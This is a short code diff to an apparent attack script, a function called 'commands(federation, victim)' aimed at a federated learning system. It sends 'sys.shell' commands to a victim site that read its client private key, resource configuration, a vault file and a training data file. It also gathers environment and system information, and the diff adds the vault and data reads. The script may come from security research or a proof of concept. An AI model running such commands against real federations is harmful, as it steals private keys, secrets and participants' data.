@@ -77,6 +77,8 @@ def commands(federation, victim):
     return [
         {**admin, "topic": "sys.shell", "body": f"cat {site.folder}/kit/local/resources.json"},
         {**admin, "topic": "sys.shell", "body": f"cat {site.folder}/kit/startup/client.key"},
+        {**admin, "topic": "sys.shell", "body": f"cat {site.folder}/vault/felb.json"},
+        {**admin, "topic": "sys.shell", "body": f"cat {site.folder}/data.npz"},
         {**admin, "topic": "sys.shell", "body": f"ls {site.folder}"},
         {**admin, "topic": "sys.report_env", "body": ""},
         {**admin, "topic": "sys.info", "body": ""},
